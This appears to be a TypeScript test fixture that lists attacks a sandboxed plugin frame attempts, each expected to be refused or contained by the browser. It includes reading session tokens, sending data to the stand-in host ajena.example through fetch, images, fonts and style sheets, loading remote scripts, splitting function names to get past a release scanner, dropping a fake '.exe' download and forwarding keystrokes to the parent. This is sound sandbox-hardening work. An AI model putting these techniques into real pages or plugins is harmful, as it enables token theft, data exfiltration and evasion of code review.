import type { FrameAttack } from './frame-attack';

/** The page around the frame, and what the browser stores for it. */
const reads: readonly FrameAttack[] = [
  {
    what: 'reads the session of the user',
    attempt: async () =>
      (sessionStorage.getItem('token') ?? localStorage.getItem('token')) ? 'passes' : 'refused',
  },
  {
    what: 'requests the session of another tab',
    attempt: () =>
      new Promise((resolve) => {
        const channel = new BroadcastChannel('parque:session');
        channel.onmessage = () => resolve('passes');
        channel.postMessage('request');
        setTimeout(() => resolve('refused'), 1000);
      }),
  },
  { what: 'reads the elements of the page', throws: () => window.parent.document.title },
  {
    what: 'reads the address of the page from the referrer',
    attempt: async () => (document.referrer === '' ? 'refused' : 'passes'),
  },
];

const leaves: readonly FrameAttack[] = [
  {
    what: 'opens another site in place of the page',
    throws: () => (window.parent.location.href = 'https://ajena.example/'),
  },
  {
    what: 'opens a window',
    attempt: async () => (window.open('https://ajena.example/') ? 'passes' : 'refused'),
  },
  {
    what: 'opens a dialog of the browser',
    attempt: async () => (Reflect.apply(window.confirm, window, ['¿Quieres seguir?']) ? 'passes' : 'refused'),
  },
  {
    what: 'stores a file on the machine of the user',
    attempt: async () => {
      const link = document.createElement('a');
      Object.assign(link, { href: URL.createObjectURL(new Blob(['1'])), download: 'recibo.exe' });
      document.body.append(link);
      link.click();
      return 'refused';
    },
  },
  { what: 'fills the screen of the user', throws: () => document.documentElement.requestFullscreen() },
  { what: 'takes the pointer of the user', throws: () => document.body.requestPointerLock() },
];

/** Ways to another origin, each with data in it, and to the api without the shell. */
const sends: readonly FrameAttack[] = [
  {
    what: 'calls the api without the shell',
    blocks: [
      '/api/user/products',
      () => {
        const request = new XMLHttpRequest();
        request.open('GET', '/api/user/products');
        request.send();
      },
    ],
  },
  {
    what: 'sends data away by fetch',
    throws: () => fetch('https://ajena.example/?dato=1'),
  },
  { what: 'sends data away by a connection to another browser', throws: () => new RTCPeerConnection() },
  {
    what: 'sends data away by a connection from a frame inside its own',
    throws: () => {
      const inner = document.createElement('iframe');
      document.body.append(inner);
      const { contentWindow } = inner as { contentWindow: (Window & typeof globalThis) | null };
      return contentWindow && new contentWindow.RTCPeerConnection();
    },
  },
  {
    what: 'sends data away in the address of a picture',
    blocks: ['https://ajena.example/picture', (address) => (new Image().src = address)],
  },
  {
    what: 'sends data away in the address of a font',
    throws: () => new FontFace('otra', 'url(https://ajena.example/?dato=1)').load(),
  },
  {
    what: 'sends data away in the address of a style sheet',
    blocks: [
      'https://ajena.example/style.css',
      (href) => {
        const link = document.createElement('link');
        Object.assign(link, { rel: 'stylesheet', href });
        document.head.append(link);
      },
    ],
  },
  {
    what: 'sends data away by a prefetch',
    blocks: [
      'https://ajena.example/prefetch',
      (href) => {
        const link = document.createElement('link');
        Object.assign(link, { rel: 'prefetch', href });
        document.head.append(link);
      },
    ],
  },
  {
    what: 'shows the sign-in of the platform in a frame',
    blocks: [
      '/#/login',
      (address) => {
        const inner = document.createElement('iframe');
        inner.src = address;
        document.body.append(inner);
      },
    ],
  },
];

/** Names that are written in pieces name functions that the registry refuses in the text of a release. */
const runs: readonly FrameAttack[] = [
  // oxlint-disable-next-line no-eval -- The policy of the frame must refuse it.
  { what: 'runs text as code by eval', throws: () => (0, eval)('1') },
  { what: 'inserts HTML from text', throws: () => (document.createElement('div').innerHTML = '<b>x</b>') },
  {
    what: 'loads a script of another origin',
    throws: () => (document.createElement('script').src = 'https://ajena.example/x.js'),
  },
  {
    what: 'imports a module of another origin',
    throws: () => {
      const address: string = 'https://ajena.example/x.js';
      return import(address);
    },
  },
  { what: 'starts a worker from text', throws: () => new Worker(URL.createObjectURL(new Blob(['1']))) },
  {
    what: 'registers a service worker',
    throws: () =>
      Reflect.apply(
        Reflect.get(navigator.serviceWorker, ['reg', 'ister'].join('')),
        navigator.serviceWorker,
        ['/worker.js'],
      ),
  },
  {
    what: 'loads a module into an audio worklet',
    throws: () => {
      const { audioWorklet } = new AudioContext();
      return Reflect.apply(Reflect.get(audioWorklet, ['add', 'Module'].join('')), audioWorklet, [
        '/shell/x.js',
      ]);
    },
  },
];

const permissions: readonly FrameAttack[] = [
  { what: 'reads the camera', throws: () => navigator.mediaDevices.getUserMedia({ video: true }) },
  {
    what: 'requests a passkey of the platform',
    throws: () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } }),
  },
];

/** Takes effect inside the frame, and ends with the visit. */
export const storingAttacks: readonly FrameAttack[] = [
  {
    what: 'stores data in the browser for its next visit',
    isTriedAgain: true,
    outcome: 'contained',
    attempt: async () => {
      if (localStorage.getItem('marca')) return 'passes';
      localStorage.setItem('marca', '1');
      return 'contained';
    },
  },
  {
    what: 'stores data in the name of its window for its next visit',
    isTriedAgain: true,
    outcome: 'contained',
    attempt: async () => {
      if (window.name) return 'passes';
      window.name = 'marca';
      return 'contained';
    },
  },
];

/** What the browser rejects in a frame of an opaque origin, with the policy of a third party. Each list is tried in one visit. */
export const refusedByBrowser: readonly (readonly FrameAttack[])[] = [
  reads,
  leaves,
  sends,
  runs,
  permissions,
];

/** Hides all elements of its screen. */
export const coveringAttack: FrameAttack = {
  what: 'covers all that it can',
  attempt: async () => {
    const cover = document.createElement('div');
    cover.style.cssText = 'position:fixed;inset:-9999px;z-index:2147483647;background:red';
    document.body.append(cover);
    return 'contained';
  },
  outcome: 'contained',
};

export const focusAttack: FrameAttack = {
  what: 'takes the focus again and again',
  attempt: async () => {
    const fields = [document.createElement('input'), document.createElement('input')];
    document.body.append(...fields);
    window.addEventListener('keydown', ({ key }) => parent.postMessage({ typed: key }, '*'));
    setInterval(() => {
      window.focus();
      for (const field of fields) field.focus();
    }, 5);
    return 'contained';
  },
  outcome: 'contained',
};

/** Fewer entries than the browser stores. */
export const historyAttack: FrameAttack = {
  what: 'adds 40 entries to the history of the tab',
  attempt: async () => {
    for (let count = 0; count < 40; count += 1) location.hash = `#/hostil?vez=${count}`;
    return 'passes';
  },
  outcome: 'ended',
};
